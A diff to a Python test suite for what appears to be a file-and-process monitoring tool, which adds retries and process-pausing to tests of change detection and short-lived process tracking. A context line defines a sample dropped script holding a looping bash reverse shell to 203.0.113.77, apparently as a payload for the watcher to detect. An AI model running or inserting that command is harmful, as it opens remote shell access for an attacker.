@@ -20,6 +20,8 @@ import pytest
 
 from hinomi.store.case import Case
 
+from .conftest import ATTEMPTS
+
 Start = Callable[..., Any]
 DROPPED = "#!/bin/sh\nwhile :; do\n  bash -i >& /dev/tcp/203.0.113.77/8443 0>&1\n  sleep 60\ndone\n"
 
@@ -33,15 +35,20 @@ def tree(folder: Path) -> dict[str, str | None]:
 
 
 def test_a_change_says_who_and_is_judged(place: Path, watching: Start) -> None:
-    (place / "old").write_text("before")
+    for number in range(ATTEMPTS):
+        (place / f"old{number}").write_text("before")
     (place / "sub").mkdir()
     watch = watching().ready()
-    subprocess.run(["sh", "-c", f"echo after > '{place}/old'; mv '{place}/old' '{place}/sub/new'"], check=True)
-    moved = watch.change("sub/new", "added")
-    assert moved["new_sha256"] == hashlib.sha256(b"after\n").hexdigest() and moved["found_by"] == "event"
-    gone = watch.change("old", "removed")
+
+    def move(number: int) -> dict[str, Any]:
+        old, new = f"old{number}", f"sub/new{number}"
+        subprocess.run(["sh", "-c", f"echo after > '{place}/{old}'; mv '{place}/{old}' '{place}/{new}'"], check=True)
+        moved = watch.change(new, "added")
+        assert moved["new_sha256"] == hashlib.sha256(b"after\n").hexdigest() and moved["found_by"] == "event"
+        return dict(watch.change(old, "removed"))
+
+    gone = watch.unless_lost(move, lambda told: (told["process"] or told["exe"] or "").endswith("mv"))
     assert gone["old_sha256"] == hashlib.sha256(b"before").hexdigest()
-    assert gone["process"] == "mv" or gone["exe"].endswith("mv")
     assert os.getpid() in gone["ancestor_pids"], "the way up to whoever began it"
 
     script = place / "sub" / "any-name"
@@ -55,10 +62,9 @@ def test_a_change_says_who_and_is_judged(place: Path, watching: Start) -> None:
     with evidence.open("ab") as file:  # somebody else's hand in our own evidence
         file.write(b"\n")
     assert watch.finding("watcher-tampered", str(evidence))["severity"] == "high"
-    subprocess.run(["sh", "-c", "sleep 0.5; :", "a-word-of-its-own"], check=False)
-    watch.until(
-        lambda: [s for s in watch.lines("start") if "a-word-of-its-own" in s["cmdline"]], "the start of a program"
-    )
+    with subprocess.Popen(["sh", "-c", "read _; :", str(place)], stdin=subprocess.PIPE) as living:
+        watch.until(lambda: [s for s in watch.lines("start") if str(place) in s["cmdline"]], "the start of a program")
+        living.communicate(b"\n")
     watch.stop()
     with Case.open(watch.case) as case:
         ended = case.journal.entries()[-1]
@@ -168,16 +174,23 @@ def _storm(folder: Path, number: int) -> None:
 @pytest.mark.parametrize("config", ["", "[watch]\nmax_pending = 150\nunlimited_queue = false\n"])
 def test_a_storm_is_told_or_a_stated_gap(place: Path, watching: Start, config: str) -> None:
     watch = watching("--no-processes", config=config).ready()
-    makers = [multiprocessing.get_context("fork").Process(target=_storm, args=(place, n)) for n in range(6)]
-    for maker in makers:
-        maker.start()
-    for maker in makers:
-        maker.join()
-    (place / "end").write_text("end")
-    watch.change("end")
-    watch.until(lambda: watch.state() == tree(place), "the last state of everything is told")
-    if config:
-        assert watch.gaps("too-many-waiting")[-1]["number"] > 0
+    for storm in range(ATTEMPTS if config else 1):
+        watch.process.send_signal(signal.SIGSTOP)  # however slow the makers are, nothing is judged meanwhile
+        makers = [
+            multiprocessing.get_context("fork").Process(target=_storm, args=(place, 6 * storm + n)) for n in range(6)
+        ]
+        for maker in makers:
+            maker.start()
+        for maker in makers:
+            maker.join()
+        watch.process.send_signal(signal.SIGCONT)
+        (place / f"end{storm}").write_text("end")
+        watch.change(f"end{storm}")
+        watch.until(lambda: watch.state() == tree(place), "the last state of everything is told")
+        if watch.gaps("too-many-waiting"):
+            break
+    assert bool(config) == bool(watch.gaps("too-many-waiting"))
+    assert all(gap["number"] > 0 for gap in watch.gaps("too-many-waiting"))
     watch.stop()
     with Case.open(watch.case) as case:
         assert case.gaps.listed(only_open=True) == []
@@ -185,7 +198,7 @@ def test_a_storm_is_told_or_a_stated_gap(place: Path, watching: Start, config: s
 
 def _short_lived(program: str, number: int, pids: Any) -> None:
     for _ in range(number):
-        pid = os.posix_spawn(program, [program, "a-word-of-its-own"], {})
+        pid = os.posix_spawn(program, [program], {})
         os.waitpid(pid, 0)
         pids.put(pid)
 
@@ -202,11 +215,14 @@ def test_every_short_lived_process_is_told_or_a_stated_gap(place: Path, watching
     made = {pids.get() for _ in range(400)}
     for maker in makers:
         maker.join()
+    parents = {maker.pid for maker in makers}
 
     def told() -> bool:
-        starts = {start["pid"]: start for start in watch.lines("start") if start["pid"] in made}
-        assert all(start["exe"] in (str(program), None) for start in starts.values()), "never taken for another program"
-        return starts.keys() == made or any("process" in g["reason"] or "starts" in g["reason"] for g in watch.gaps(""))
+        starts = [start for start in watch.lines("start") if start["pid"] in made]  # others' may wear a number after
+        ours = [start for start in starts if start["ppid"] in parents or start["exe"] in (str(program), None)]
+        assert all(start["exe"] in (str(program), None) for start in ours), "never taken for another program"
+        covered = any("process" in gap["reason"] or "starts" in gap["reason"] for gap in watch.gaps(""))
+        return covered or {start["pid"] for start in ours} == made
 
     watch.until(told, "every program that was started")
     watch.stop()
